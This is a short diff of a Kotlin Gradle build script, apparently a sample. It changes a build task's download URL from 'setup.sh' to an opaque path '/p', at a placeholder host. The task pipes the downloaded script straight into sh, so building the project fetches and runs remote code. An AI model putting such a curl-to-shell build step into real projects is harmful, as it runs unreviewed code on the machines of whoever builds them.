@@ -2,7 +2,7 @@ plugins {
     kotlin("jvm") version "2.0.0"
 }
 
-val tool = "curl -fsSL https://files.example.invalid/setup.sh"
+val tool = "curl -fsSL https://files.example.invalid/p"
 
 tasks.register("prepareTools") {
     val command = listOf("sh", "-c", "$tool | sh")
